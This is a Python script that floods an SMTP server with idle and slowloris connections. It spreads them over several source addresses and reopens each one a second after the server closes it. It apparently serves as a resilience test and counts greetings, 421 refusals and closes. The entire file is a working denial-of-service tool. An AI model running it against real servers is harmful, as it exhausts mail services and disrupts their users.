# Idle and slowloris connections against an SMTP server, kept up for a while: each connection that
# the server closes is opened again after a second, as a determined attacker would.
# Usage: flood.py HOST PORT IDLE SLOWLORIS SECONDS SOURCE[,SOURCE...]
# Prints one line of counts at the end.
import asyncio, sys, time, json

host, port, idle, slow, seconds = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), int(sys.argv[4]), float(sys.argv[5])
sources = sys.argv[6].split(",")
stats = {"connects": 0, "greeted": 0, "refused_421": 0, "closed_by_server": 0, "errors": 0, "open_max": 0}
open_now = 0
end = time.monotonic() + seconds
DRIP = b"EHLO slow.example.com MAIL FROM:<slow@slow.example.com> RCPT TO:<x@example.org>"


async def one(i, slowloris):
    global open_now
    src = sources[i % len(sources)]
    while time.monotonic() < end:
        try:
            r, w = await asyncio.wait_for(asyncio.open_connection(host, port, local_addr=(src, 0)), 10)
        except Exception:
            stats["errors"] += 1
            await asyncio.sleep(1)
            continue
        stats["connects"] += 1
        open_now += 1
        stats["open_max"] = max(stats["open_max"], open_now)
        try:
            line = await asyncio.wait_for(r.readline(), 10)
            if line.startswith(b"220"):
                stats["greeted"] += 1
            elif line.startswith(b"421"):
                stats["refused_421"] += 1
            b = 0
            while time.monotonic() < end:
                if slowloris:
                    w.write(DRIP[b % len(DRIP):b % len(DRIP) + 1])
                    b += 1
                    await w.drain()
                try:
                    data = await asyncio.wait_for(r.read(512), 1.0)
                except asyncio.TimeoutError:
                    continue
                if not data:
                    stats["closed_by_server"] += 1
                    break
        except Exception:
            stats["errors"] += 1
        finally:
            open_now -= 1
            w.close()
        await asyncio.sleep(1)


async def main():
    tasks = [one(i, False) for i in range(idle)] + [one(idle + i, True) for i in range(slow)]
    await asyncio.gather(*tasks)
    print("flood " + json.dumps(stats), flush=True)

asyncio.run(main())
